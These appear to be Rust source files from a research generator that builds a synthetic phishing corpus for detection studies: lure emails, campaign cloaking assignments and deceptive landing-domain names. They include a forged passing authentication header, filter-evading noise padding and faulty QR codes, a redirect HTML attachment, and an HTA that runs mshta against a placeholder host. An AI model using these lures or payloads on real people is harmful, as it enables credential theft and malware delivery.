pub fn date_header(t: SimTime) -> String {
    let (y, mo, d) = t.ymd();
    let (h, mi, s) = t.hms();
    format!("{d:02} {} {y} {h:02}:{mi:02}:{s:02} +0000", cb_sim::Month(mo).abbrev())
}

fn base_builder(victim: &str, subject: &str, delivered: SimTime, seed: u64) -> MessageBuilder {
    let mut b = MessageBuilder::new();
    b.from("notification@partner-billing.example")
        .to(victim)
        .subject(subject)
        .date(&date_header(delivered))
        .header(
            "Authentication-Results",
            "corp.example; spf=pass dkim=pass dmarc=pass",
        )
        .boundary_seed(seed);
    b
}

/// Long random noise text diluting content signals (§V-C1: "a lengthy
/// series of line breaks and a long random text").
pub fn noise_text(rng: &mut StdRng, words: usize) -> String {
    const POOL: &[&str] = &[
        "quarterly", "synergy", "newsletter", "update", "metrics", "regional", "holiday",
        "schedule", "committee", "wellness", "initiative", "survey", "benefits", "travel",
        "catering", "maintenance", "parking", "reminder", "policy", "renewal",
    ];
    let mut out = String::from("\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n");
    for i in 0..words {
        if i % 12 == 0 {
            out.push_str("\r\n");
        }
        out.push_str(POOL[rng.gen_range(0..POOL.len())]);
        out.push(' ');
    }
    out
}

/// The lure body text pointing at `url`.
fn lure_text(url: &str, victim: &str) -> String {
    format!(
        "Dear colleague,\r\n\r\nYour mailbox storage is almost full and several messages \
         are on hold. Review the pending items within 24 hours to avoid interruption:\r\n\r\n\
         {url}\r\n\r\nThis notice was generated for {victim}.\r\nIT Service Desk"
    )
}

/// A QR image for `payload` (optionally faulty: junk prepended so strict
/// scanners reject it while phones recover the URL).
pub fn qr_image(payload: &str, faulty: bool) -> Bitmap {
    let data = if faulty {
        format!("xxx {payload}")
    } else {
        payload.to_string()
    };
    let symbol = encode_bytes(data.as_bytes(), EcLevel::M).expect("payload fits v10");
    let mut canvas = Bitmap::new(
        qrimage::render(symbol.matrix(), 2).width().max(260),
        qrimage::render(symbol.matrix(), 2).height() + 24,
        Rgb::WHITE,
    );
    canvas.draw_text(4, 4, "SCAN TO REVIEW", 1, Rgb::BLACK);
    qrimage::draw_at(&mut canvas, symbol.matrix(), 8, 18, 2);
    canvas
}

/// Build one synthetic reported message. `otp_note` carries the one-time
/// access code for OTP-gated campaigns (the paper's OTP arrives in a
/// separate message; the single-message simplification is documented in
/// DESIGN.md §4).
#[allow(clippy::too_many_arguments)]
pub fn build_message(
    rng: &mut StdRng,
    carrier: Carrier,
    url: Option<&str>,
    victim: &str,
    delivered: SimTime,
    noise_padded: bool,
    otp_note: Option<&str>,
    seed: u64,
) -> String {
    let url_or_default = url.unwrap_or("https://unused.example/");
    let mut subject = match carrier {
        Carrier::None => "Outstanding balance - action required".to_string(),
        Carrier::QrCode { .. } => "Document shared with you - scan to view".to_string(),
        Carrier::ZipHta => "Invoice archive attached".to_string(),
        _ => "Mailbox storage warning".to_string(),
    };
    if rng.gen_bool(0.3) {
        subject.push_str(" [reminder]");
    }
    let mut b = base_builder(victim, &subject, delivered, seed);
    // The OTP rides along in the body footer for every carrier.
    let footer = otp_note
        .map(|c| format!("\r\n\r\nYour one-time {ACCESS_CODE_PREFIX} {c}"))
        .unwrap_or_default();

    match carrier {
        Carrier::None => {
            b.text_body(
                "Hello,\r\n\r\nThis is the billing department of a partner company. Our records \
                 show a past-due balance on your account. Reply urgently to arrange payment and \
                 avoid service disconnection.\r\n\r\nRegards,\r\nAccounts Receivable",
            );
        }
        Carrier::BodyLink => {
            let mut text = lure_text(url_or_default, victim);
            text.push_str(&footer);
            if noise_padded {
                text.push_str(&noise_text(rng, 180));
            }
            b.text_body(&text);
            b.html_body(&format!(
                r#"<p>Several messages are on hold for {victim}.</p><a href="{url_or_default}">Review pending items</a>"#
            ));
        }
        Carrier::QrCode { faulty } => {
            b.text_body(&format!("Scan the attached code with your phone to view the shared document.{footer}"));
            let img = qr_image(url_or_default, faulty);
            b.attach("qr-code.png", "image/png", &img.to_bytes());
        }
        Carrier::ImageText => {
            b.text_body(&format!("See the attached notice.{footer}"));
            let mut img = Bitmap::new(620, 40, Rgb::WHITE);
            img.draw_text(4, 4, "ACCOUNT SUSPENDED - VISIT", 1, Rgb::BLACK);
            img.draw_text(4, 20, url_or_default, 1, Rgb::BLACK);
            b.attach("notice.png", "image/png", &img.to_bytes());
        }
        Carrier::PdfLink => {
            b.text_body(&format!("The invoice is attached as PDF.{footer}"));
            let mut doc = PdfDocument::new();
            let mut page = PdfPage::new();
            page.text(10, 10, "INVOICE #8471 OVERDUE")
                .link(url_or_default);
            doc.page(page);
            b.attach("invoice.pdf", "application/pdf", &doc.to_bytes());
        }
        Carrier::PdfText => {
            b.text_body(&format!("The invoice is attached as PDF.{footer}"));
            let mut doc = PdfDocument::new();
            let mut page = PdfPage::new();
            page.text(10, 10, "PAY AT");
            page.text(10, 26, url_or_default);
            doc.page(page);
            b.attach("invoice.pdf", "application/pdf", &doc.to_bytes());
        }
        Carrier::NestedEml => {
            let mut inner = base_builder(victim, "FW: payment link", delivered, seed ^ 0x9999);
            inner.text_body(&lure_text(url_or_default, victim));
            let inner_raw = inner.build();
            b.text_body(&format!("Forwarding the original request, please handle.{footer}"));
            b.attach("original.eml", "message/rfc822", inner_raw.as_bytes());
        }
        Carrier::HtmlAttachment => {
            b.text_body(&format!("Open the attached secure document.{footer}"));
            let html = format!(
                r#"<html><body>
<img src="https://freeimages.example/bg.jpg">
<script>location.href = "{url_or_default}";</script>
<p>Loading secure document...</p>
</body></html>"#
            );
            b.attach("secure-document.html", "text/html", html.as_bytes());
        }
        Carrier::ZipHta => {
            b.text_body(&format!("The requested archive is attached.{footer}"));
            let hta = format!(
                r#"<html><hta:application id="inv"/><script>
var sh = new ActiveXObject("WScript.Shell");
sh.Run("mshta {url_or_default}");
</script></html>"#
            );
            let mut zip = ZipArchive::new();
            zip.add("invoice.hta", hta.as_bytes());
            b.attach("invoice-archive.zip", "application/zip", &zip.to_bytes());
        }
    }
    b.build()
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_email::MimeEntity;
    use cb_sim::SeedFork;

    fn rng() -> StdRng {
        SeedFork::new(5).rng("messages")
    }

    fn t0() -> SimTime {
        SimTime::from_ymd_hms(2024, 3, 12, 9, 30, 0)
    }

    #[test]
    fn every_carrier_produces_parseable_mime() {
        let carriers = [
            Carrier::None,
            Carrier::BodyLink,
            Carrier::QrCode { faulty: false },
            Carrier::QrCode { faulty: true },
            Carrier::ImageText,
            Carrier::PdfLink,
            Carrier::PdfText,
            Carrier::NestedEml,
            Carrier::HtmlAttachment,
            Carrier::ZipHta,
        ];
        for (i, carrier) in carriers.iter().enumerate() {
            let raw = build_message(
                &mut rng(),
                *carrier,
                Some("https://evil-x.example/tok12345"),
                "victim@corp.example",
                t0(),
                false,
                None,
                i as u64,
            );
            let msg = MimeEntity::parse(&raw).unwrap_or_else(|e| panic!("{carrier:?}: {e}"));
            assert!(msg.header("Subject").is_some());
            assert_eq!(
                msg.header("Authentication-Results").unwrap(),
                "corp.example; spf=pass dkim=pass dmarc=pass"
            );
        }
    }

    #[test]
    fn qr_attachment_decodes_back_to_url() {
        let raw = build_message(
            &mut rng(),
            Carrier::QrCode { faulty: false },
            Some("https://evil-q.example/scanme12"),
            "v@corp.example",
            t0(),
            false,
            None,
            1,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let img_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.filename().as_deref() == Some("qr-code.png"))
            .unwrap();
        let img = Bitmap::from_bytes(img_part.body_bytes().unwrap()).unwrap();
        let payload = qrimage::decode_from_image(&img).expect("qr detected");
        assert_eq!(payload, b"https://evil-q.example/scanme12");
    }

    #[test]
    fn faulty_qr_has_junk_prefix() {
        let raw = build_message(
            &mut rng(),
            Carrier::QrCode { faulty: true },
            Some("https://evil-q.example/faulty99"),
            "v@corp.example",
            t0(),
            false,
            None,
            2,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let img_part = msg.leaves().into_iter().find(|l| l.filename().is_some()).unwrap();
        let img = Bitmap::from_bytes(img_part.body_bytes().unwrap()).unwrap();
        let payload = qrimage::decode_from_image(&img).unwrap();
        assert!(payload.starts_with(b"xxx "));
        assert_eq!(cb_qr::extract::extract_url_strict(&payload), None);
        assert_eq!(
            cb_qr::extract::extract_url_lenient(&payload).as_deref(),
            Some("https://evil-q.example/faulty99")
        );
    }

    #[test]
    fn pdf_link_is_extractable() {
        let raw = build_message(
            &mut rng(),
            Carrier::PdfLink,
            Some("https://evil-p.example/pdfpath1"),
            "v@corp.example",
            t0(),
            false,
            None,
            3,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let pdf_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.content_type().mime() == "application/pdf")
            .unwrap();
        let doc = PdfDocument::parse(pdf_part.body_bytes().unwrap()).unwrap();
        assert_eq!(doc.link_uris(), ["https://evil-p.example/pdfpath1"]);
    }

    #[test]
    fn nested_eml_contains_inner_url() {
        let raw = build_message(
            &mut rng(),
            Carrier::NestedEml,
            Some("https://evil-n.example/nested12"),
            "v@corp.example",
            t0(),
            false,
            None,
            4,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let eml_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.content_type().mime() == "message/rfc822")
            .unwrap();
        let inner =
            MimeEntity::parse(std::str::from_utf8(eml_part.body_bytes().unwrap()).unwrap())
                .unwrap();
        assert!(inner.body_text().unwrap().contains("evil-n.example/nested12"));
    }

    #[test]
    fn zip_member_is_detectable_hta() {
        let raw = build_message(
            &mut rng(),
            Carrier::ZipHta,
            Some("https://evil-z.example/payload1"),
            "v@corp.example",
            t0(),
            false,
            None,
            5,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let zip_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.content_type().mime() == "application/zip")
            .unwrap();
        let zip = ZipArchive::parse(zip_part.body_bytes().unwrap()).unwrap();
        let hta = zip.entry("invoice.hta").unwrap();
        assert!(cb_artifacts::magic::is_hta(&hta.data));
    }

    #[test]
    fn noise_padding_inflates_body() {
        let plain = build_message(
            &mut rng(),
            Carrier::BodyLink,
            Some("https://e.example/x"),
            "v@corp.example",
            t0(),
            false,
            None,
            6,
        );
        let padded = build_message(
            &mut rng(),
            Carrier::BodyLink,
            Some("https://e.example/x"),
            "v@corp.example",
            t0(),
            true,
            None,
            6,
        );
        assert!(padded.len() > plain.len() + 800);
    }

    #[test]
    fn date_header_format() {
        assert_eq!(date_header(t0()), "12 Mar 2024 09:30:00 +0000");
    }

    #[test]
    fn image_text_is_ocr_recoverable() {
        let raw = build_message(
            &mut rng(),
            Carrier::ImageText,
            Some("https://evil-i.example/imgurl12"),
            "v@corp.example",
            t0(),
            false,
            None,
            7,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let img_part = msg.leaves().into_iter().find(|l| l.filename().is_some()).unwrap();
        let img = Bitmap::from_bytes(img_part.body_bytes().unwrap()).unwrap();
        let text = cb_artifacts::ocr::recognize_any_scale(&img);
        assert!(
            text.contains("HTTPS://EVIL-I.EXAMPLE/IMGURL12"),
            "OCR text: {text}"
        );
    }
}
