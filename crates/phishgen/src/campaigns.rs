//! Campaign assembly: domains × messages × cloaking configurations.
//!
//! A campaign is one landing domain with its kit configuration and its
//! share of reported messages. Assignment reproduces the §V-A volume
//! findings (median one message per domain, one 58-message outlier, mean
//! ≈ 2.6–3) and the §V-C2 cloaking prevalences via greedy quota filling.

use crate::domains::LandingDomain;
use crate::spec::CorpusSpec;
use cb_phishkit::{Brand, ClientCloak, CloakConfig, ServerCloak};
use rand::rngs::StdRng;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// Which shared victim-check script (if any) a campaign deploys — the two
/// obfuscated scripts the paper found shared across 38 and 57 domains.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum VictimCheckScript {
    /// Script A: 38 domains / 151 messages, C2 `c2-alpha.example`.
    A,
    /// Script B: 57 domains / 143 messages, C2 `c2-beta.example`.
    B,
}

/// One campaign: a landing domain plus everything deployed on it.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Campaign {
    /// The landing domain.
    pub domain: LandingDomain,
    /// Impersonated brand.
    pub brand: Brand,
    /// `true` for spear phishing against the five companies.
    pub spear: bool,
    /// Whether this campaign's pages harvest credentials (all spear
    /// campaigns do; 130 of the non-targeted messages do).
    pub credential_harvesting: bool,
    /// Number of reported messages pointing at this campaign.
    pub message_count: usize,
    /// Distinct tokenized landing URLs used by those messages.
    pub landing_urls: Vec<String>,
    /// Kit configuration.
    pub cloak: CloakConfig,
    /// Shared victim-check script, if any.
    pub victim_check: Option<VictimCheckScript>,
    /// The C2 base URL this campaign exfiltrates to.
    pub c2_base: String,
    /// Campaign launch anchor (set during corpus assembly).
    pub launch: cb_sim::SimTime,
}

impl Campaign {
    /// The URL a given message of this campaign carries.
    pub fn url_for_message(&self, msg_idx: usize) -> &str {
        &self.landing_urls[msg_idx % self.landing_urls.len()]
    }
}

/// Draw a random URL token. Lowercase + digits only: OCR-extracted URLs
/// are case-folded, and tokens must survive that round trip.
pub fn random_token(rng: &mut StdRng) -> String {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..8)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
        .collect()
}

/// Message-count assignment: `domains` entries summing to `messages`, with
/// median 1, one `max_count` outlier, and a skewed middle.
pub fn message_counts(
    rng: &mut StdRng,
    domains: usize,
    messages: usize,
    max_count: usize,
) -> Vec<usize> {
    assert!(domains >= 1, "need at least one domain");
    assert!(messages >= domains, "at least one message per domain");
    let mut counts = vec![1usize; domains];
    let mut remaining = messages - domains;
    if domains >= 3 {
        // The outlier takes up to max_count messages.
        let extra_top = (max_count - 1).min(remaining);
        counts[0] += extra_top;
        remaining -= extra_top;
        // Enough singles to pin the median at 1; the rest form the middle.
        let singles = (domains * 58 / 100).max(domains / 2 + 1).min(domains - 2);
        let middle = domains - singles - 1;
        let mut i = 0usize;
        while remaining > 0 && middle > 0 {
            let idx = 1 + (i % middle);
            let add = rng.gen_range(1..=4).min(remaining);
            counts[idx] += add;
            remaining -= add;
            i += 1;
        }
        // middle == 0 fallthrough: pile on the outlier
        counts[0] += remaining;
    } else {
        counts[0] += remaining;
    }
    counts
}

/// Build all campaigns for the corpus.
pub fn generate_campaigns(
    spec: &CorpusSpec,
    rng: &mut StdRng,
    domains: Vec<LandingDomain>,
) -> Vec<Campaign> {
    let total_messages = spec.scaled(spec.active_phish);
    let spear_messages = spec.scaled(spec.spear);
    let nontargeted_domains = spec.scaled(111).min(domains.len().saturating_sub(1)).max(1);
    let spear_domains = domains.len() - nontargeted_domains;

    // --- message counts -------------------------------------------------
    // Non-targeted campaigns carry the big outlier; spear campaigns skew
    // small ("low-volume operations").
    let nt_messages = total_messages - spear_messages;
    let nt_counts = message_counts(
        rng,
        nontargeted_domains,
        nt_messages,
        spec.scaled(spec.max_messages_per_domain).max(3),
    );
    let spear_counts = message_counts(rng, spear_domains, spear_messages, 6);

    // --- brands ----------------------------------------------------------
    let companies = Brand::companies();
    let commodity: Vec<Brand> = Brand::commodity_services()
        .iter()
        .flat_map(|(b, n)| std::iter::repeat_n(*b, *n))
        .collect();

    let mut campaigns = Vec::with_capacity(domains.len());
    let mut domain_iter = domains.into_iter();

    for (i, count) in nt_counts.iter().enumerate() {
        let domain = domain_iter.next().expect("enough domains");
        let brand = commodity[i % commodity.len()];
        campaigns.push(Campaign {
            domain,
            brand,
            spear: false,
            credential_harvesting: false, // quota below flips 130-worth on
            message_count: *count,
            landing_urls: Vec::new(),
            cloak: CloakConfig::none(),
            victim_check: None,
            c2_base: String::new(),
            launch: cb_sim::SimTime::EPOCH,
        });
    }
    for (i, count) in spear_counts.iter().enumerate() {
        let domain = domain_iter.next().expect("enough domains");
        let brand = companies[i % companies.len()];
        campaigns.push(Campaign {
            domain,
            brand,
            spear: true,
            credential_harvesting: true,
            message_count: *count,
            landing_urls: Vec::new(),
            cloak: CloakConfig::none(),
            victim_check: None,
            c2_base: String::new(),
            launch: cb_sim::SimTime::EPOCH,
        });
    }

    // Non-targeted credential harvesting: flip campaigns on (small first)
    // until ~`nontargeted_unique_pages` messages are covered.
    let nt_cred_quota = spec.scaled(spec.nontargeted_unique_pages);
    {
        let mut covered = 0;
        let mut order: Vec<usize> = (0..nontargeted_domains).collect();
        order.sort_by_key(|&i| campaigns[i].message_count);
        for i in order {
            if covered >= nt_cred_quota {
                break;
            }
            campaigns[i].credential_harvesting = true;
            covered += campaigns[i].message_count;
        }
    }

    // --- landing URLs ----------------------------------------------------
    // 1,438 distinct URLs over 1,551 messages: start with one URL per
    // message, then merge inside multi-message campaigns until the distinct
    // total matches the target.
    let url_target = spec.scaled(1438).min(total_messages);
    {
        let mut distinct: Vec<usize> = campaigns.iter().map(|c| c.message_count).collect();
        let mut total: usize = distinct.iter().sum();
        let mut i = 0usize;
        while total > url_target {
            let idx = i % distinct.len();
            if distinct[idx] > 1 {
                distinct[idx] -= 1;
                total -= 1;
            }
            i += 1;
        }
        for (c, d) in campaigns.iter_mut().zip(distinct) {
            let mut urls = Vec::with_capacity(d);
            for _ in 0..d {
                urls.push(format!("https://{}/{}", c.domain.name, random_token(rng)));
            }
            c.landing_urls = urls;
        }
    }

    // --- cloaking quotas ---------------------------------------------------
    // Greedy fill over credential-harvesting campaigns, large first, then
    // singles (which allow exact completion).
    let mut cred_idx: Vec<usize> = campaigns
        .iter()
        .enumerate()
        .filter(|(_, c)| c.credential_harvesting)
        .map(|(i, _)| i)
        .collect();
    cred_idx.sort_by_key(|&i| std::cmp::Reverse(campaigns[i].message_count));

    let fill = |campaigns: &mut Vec<Campaign>,
                idx: &[usize],
                quota: usize,
                offset: usize,
                set: &dyn Fn(&mut Campaign)| {
        let mut covered = 0usize;
        for &i in idx.iter().cycle().skip(offset).take(idx.len()) {
            if covered >= quota {
                break;
            }
            if campaigns[i].message_count + covered <= quota + 2 {
                set(&mut campaigns[i]);
                covered += campaigns[i].message_count;
            }
        }
    };

    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.turnstile_messages),
        0,
        &|c| c.cloak.client.turnstile = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.recaptcha_messages),
        0,
        &|c| c.cloak.client.recaptcha_v3 = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.console_hijack_messages),
        1,
        &|c| c.cloak.client.console_hijack = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.hue_rotate_messages),
        2,
        &|c| c.cloak.client.hue_rotate = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.httpbin_messages),
        3,
        &|c| c.cloak.client.exfil_visitor_data = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.ipapi_messages),
        3,
        &|c| {
            // geo enrichment rides on the exfil subset (same offset ⇒ the
            // ipapi users are a prefix of the httpbin users, as observed)
            if c.cloak.client.exfil_visitor_data {
                c.cloak.client.exfil_with_geo = true;
            }
        },
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.otp_gate_messages),
        4,
        &|c| c.cloak.client.otp_gate = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.devtools_block_messages),
        5,
        &|c| c.cloak.client.block_devtools = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.env_gate_messages),
        6,
        &|c| c.cloak.client.env_gate = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.math_challenge_messages),
        7,
        &|c| c.cloak.client.math_challenge = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.debugger_timer_messages),
        8,
        &|c| c.cloak.client.debugger_timer = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.fingerprint_lib_messages),
        9,
        &|c| c.cloak.client.fingerprint_library = true,
    );
    fill(
        &mut campaigns,
        &cred_idx,
        spec.scaled(spec.hotlink_messages),
        10,
        &|c| c.cloak.client.hotlink_brand_resources = true,
    );

    // Victim-check scripts: A on ~38 domains / 151 messages (mean ≈ 4 per
    // domain), B on ~57 / 143 (mean ≈ 2.5). Pick campaigns whose message
    // count sits closest to each script's mean so both quotas land.
    {
        let assign = |campaigns: &mut Vec<Campaign>,
                      cred_idx: &[usize],
                      dom_quota: usize,
                      msg_quota: usize,
                      script: VictimCheckScript| {
            let mean = msg_quota as f64 / dom_quota.max(1) as f64;
            let mut order: Vec<usize> = cred_idx
                .iter()
                .copied()
                .filter(|&i| campaigns[i].victim_check.is_none())
                .collect();
            order.sort_by(|&a, &b| {
                let da = (campaigns[a].message_count as f64 - mean).abs();
                let db = (campaigns[b].message_count as f64 - mean).abs();
                da.partial_cmp(&db).expect("finite")
            });
            let mut domains = 0usize;
            let mut msgs = 0usize;
            #[allow(clippy::explicit_counter_loop)] // counter gates the quota, not the iteration
            for i in order {
                if domains >= dom_quota || msgs >= msg_quota {
                    break;
                }
                campaigns[i].victim_check = Some(script);
                campaigns[i].cloak.client.victim_db_check = true;
                domains += 1;
                msgs += campaigns[i].message_count;
            }
        };
        assign(
            &mut campaigns,
            &cred_idx,
            spec.scaled(38),
            spec.scaled(spec.victim_check_a_messages),
            VictimCheckScript::A,
        );
        assign(
            &mut campaigns,
            &cred_idx,
            spec.scaled(57),
            spec.scaled(spec.victim_check_b_messages),
            VictimCheckScript::B,
        );
    }

    // C2 endpoints: shared per victim-check script, else campaign-local.
    for c in campaigns.iter_mut() {
        c.c2_base = match c.victim_check {
            Some(VictimCheckScript::A) => "https://c2-alpha.example".to_string(),
            Some(VictimCheckScript::B) => "https://c2-beta.example".to_string(),
            None => format!("https://{}", c.domain.name),
        };
        // Tokenized URLs imply server-side token checks for a subset.
        if rng.gen_bool(0.35) {
            c.cloak.server.valid_tokens = c
                .landing_urls
                .iter()
                .filter_map(|u| u.rsplit('/').next().map(str::to_string))
                .collect();
        }
        let _ = ServerCloak::default(); // (field type referenced for clarity)
        let _ = ClientCloak::default();
    }
    campaigns
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domains::generate_domains;
    use cb_sim::{SeedFork, SimTime};
    use cb_stats::describe::median;

    fn build(scale: f64) -> (CorpusSpec, Vec<Campaign>) {
        let spec = CorpusSpec::paper().with_scale(scale);
        let fork = SeedFork::new(11);
        let domains = generate_domains(
            &spec,
            &mut fork.rng("domains"),
            SimTime::from_ymd(2024, 6, 1),
        );
        let campaigns = generate_campaigns(&spec, &mut fork.rng("campaigns"), domains);
        (spec, campaigns)
    }

    #[test]
    fn message_totals_match_spec() {
        let (spec, campaigns) = build(1.0);
        let total: usize = campaigns.iter().map(|c| c.message_count).sum();
        assert_eq!(total, spec.scaled(spec.active_phish));
        let spear: usize = campaigns
            .iter()
            .filter(|c| c.spear)
            .map(|c| c.message_count)
            .sum();
        assert_eq!(spear, spec.scaled(spec.spear));
    }

    #[test]
    fn per_domain_volume_shape() {
        let (_, campaigns) = build(1.0);
        let counts: Vec<f64> = campaigns.iter().map(|c| c.message_count as f64).collect();
        assert_eq!(median(&counts), 1.0, "median messages per domain");
        let max = counts.iter().cloned().fold(0.0, f64::max);
        assert_eq!(max, 58.0, "one 58-message outlier");
        let mean = counts.iter().sum::<f64>() / counts.len() as f64;
        assert!((2.4..=3.2).contains(&mean), "mean {mean}");
    }

    #[test]
    fn distinct_urls_near_1438() {
        let (_, campaigns) = build(1.0);
        let urls: usize = campaigns.iter().map(|c| c.landing_urls.len()).sum();
        assert!((1380..=1500).contains(&urls), "{urls} distinct URLs");
    }

    #[test]
    fn turnstile_quota_hits_74_percent() {
        let (spec, campaigns) = build(1.0);
        let turnstile_msgs: usize = campaigns
            .iter()
            .filter(|c| c.cloak.client.turnstile)
            .map(|c| c.message_count)
            .sum();
        let target = spec.turnstile_messages;
        assert!(
            (target.saturating_sub(20)..=target + 20).contains(&turnstile_msgs),
            "{turnstile_msgs} vs {target}"
        );
        // prevalence over credential-harvesting messages ≈ 74.4%
        let cred: usize = campaigns
            .iter()
            .filter(|c| c.credential_harvesting)
            .map(|c| c.message_count)
            .sum();
        let rate = turnstile_msgs as f64 / cred as f64;
        assert!((0.70..=0.79).contains(&rate), "turnstile rate {rate}");
    }

    #[test]
    fn small_quotas_land_close() {
        let (spec, campaigns) = build(1.0);
        for (name, target, get) in [
            (
                "otp",
                spec.otp_gate_messages,
                Box::new(|c: &Campaign| c.cloak.client.otp_gate) as Box<dyn Fn(&Campaign) -> bool>,
            ),
            ("math", spec.math_challenge_messages, Box::new(|c: &Campaign| c.cloak.client.math_challenge)),
            ("devtools", spec.devtools_block_messages, Box::new(|c: &Campaign| c.cloak.client.block_devtools)),
            ("fingerprint", spec.fingerprint_lib_messages, Box::new(|c: &Campaign| c.cloak.client.fingerprint_library)),
        ] {
            let msgs: usize = campaigns
                .iter()
                .filter(|c| get(c))
                .map(|c| c.message_count)
                .sum();
            assert!(
                msgs.abs_diff(target) <= 6,
                "{name}: {msgs} vs target {target}"
            );
        }
    }

    #[test]
    fn victim_check_scripts_share_c2() {
        let (_, campaigns) = build(1.0);
        let a: Vec<&Campaign> = campaigns
            .iter()
            .filter(|c| c.victim_check == Some(VictimCheckScript::A))
            .collect();
        let b: Vec<&Campaign> = campaigns
            .iter()
            .filter(|c| c.victim_check == Some(VictimCheckScript::B))
            .collect();
        assert!((30..=40).contains(&a.len()), "script A domains: {}", a.len());
        assert!((45..=60).contains(&b.len()), "script B domains: {}", b.len());
        assert!(a.iter().all(|c| c.c2_base == "https://c2-alpha.example"));
        assert!(b.iter().all(|c| c.c2_base == "https://c2-beta.example"));
        let a_msgs: usize = a.iter().map(|c| c.message_count).sum();
        assert!((130..=170).contains(&a_msgs), "script A messages: {a_msgs}");
    }

    #[test]
    fn spear_campaigns_use_company_brands() {
        let (_, campaigns) = build(1.0);
        for c in &campaigns {
            if c.spear {
                assert!(Brand::companies().contains(&c.brand), "{:?}", c.brand);
            } else {
                assert!(!Brand::companies().contains(&c.brand), "{:?}", c.brand);
            }
        }
    }

    #[test]
    fn message_counts_invariants_hold_at_small_scale() {
        let (spec, campaigns) = build(0.05);
        let total: usize = campaigns.iter().map(|c| c.message_count).sum();
        assert_eq!(total, spec.scaled(spec.active_phish));
        assert!(campaigns.iter().all(|c| c.message_count >= 1));
        assert!(campaigns.iter().all(|c| !c.landing_urls.is_empty()));
    }

    #[test]
    fn url_for_message_cycles() {
        let (_, campaigns) = build(0.05);
        let c = campaigns.iter().find(|c| c.message_count > 1).unwrap();
        assert_eq!(c.url_for_message(0), c.landing_urls[0].as_str());
        let wrapped = c.url_for_message(c.landing_urls.len());
        assert_eq!(wrapped, c.landing_urls[0].as_str());
    }

    #[test]
    fn counts_helper_properties() {
        let mut rng = SeedFork::new(4).rng("mc");
        let counts = message_counts(&mut rng, 100, 300, 58);
        assert_eq!(counts.iter().sum::<usize>(), 300);
        assert_eq!(counts.len(), 100);
        assert_eq!(*counts.iter().max().unwrap(), 58);
        let singles = counts.iter().filter(|&&c| c == 1).count();
        assert!(singles > 50, "median must be 1 ({singles} singles)");
    }
}
