//! Landing-domain synthesis: names (Table II TLD mix, §V-A lexical
//! properties), registration and certificate timelines (Figure 3), and the
//! compromised/abused-service outlier classes.

use crate::spec::CorpusSpec;
use cb_sim::{SimDuration, SimTime};
use rand::rngs::StdRng;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// How a landing domain came to exist.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum DomainOrigin {
    /// Registered from scratch by the attacker.
    Fresh,
    /// A legitimate small-business domain, compromised.
    Compromised,
    /// A legitimate hosting service abused (vercel.app-style platforms).
    AbusedService,
}

/// One synthesized landing domain.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LandingDomain {
    /// Fully qualified name.
    pub name: String,
    /// Provenance class.
    pub origin: DomainOrigin,
    /// Registration instant (WHOIS creation date).
    pub registered_at: SimTime,
    /// TLS certificate issuance instant.
    pub cert_issued_at: SimTime,
    /// Sponsoring registrar.
    pub registrar: String,
    /// Whether the name uses a deceptive lexical trick (82 of 522 do).
    pub deceptive_name: bool,
}

/// Neutral word pools for unremarkable domain names — most landing domains
/// "do not use any of these tricks" and thereby dodge CT-log scanners.
const NEUTRAL_WORDS: &[&str] = &[
    "cloud", "portal", "secure", "online", "account", "service", "update", "notify", "sync",
    "hub", "platform", "connect", "digital", "system", "access", "center", "zone", "apex",
    "nimbus", "quartz", "stream", "vault", "matrix", "prime", "orbit", "pulse", "nova", "echo",
];

/// Deceptive-name generators (§V-A: combosquatting, target embedding,
/// homoglyphs, keyword stuffing, typosquatting — and **zero** punycode).
fn deceptive_name(rng: &mut StdRng, idx: usize, tld: &str) -> String {
    let brands = ["amadora", "skybook", "farelogic", "payroute", "tripaggregate"];
    let brand = brands[idx % brands.len()];
    let serial = idx / 5; // keeps repeated patterns unique
    match idx % 5 {
        // combosquatting: brand + keyword
        0 => format!("{brand}-login{serial}{tld}"),
        // target embedding: brand inside a larger name
        1 => format!("sso-{brand}-accounts-verify{serial}{tld}"),
        // homoglyph (ASCII-only lookalike substitution, not punycode)
        2 => format!("{}{serial}{tld}", brand.replace('o', "0").replace('l', "1")),
        // keyword stuffing
        3 => format!("secure-login-verify-{brand}{serial}{tld}"),
        // typosquatting: dropped character
        _ => {
            let mut s = brand.to_string();
            let drop = rng.gen_range(1..s.len());
            s.remove(drop);
            format!("{s}{serial}{tld}")
        }
    }
}

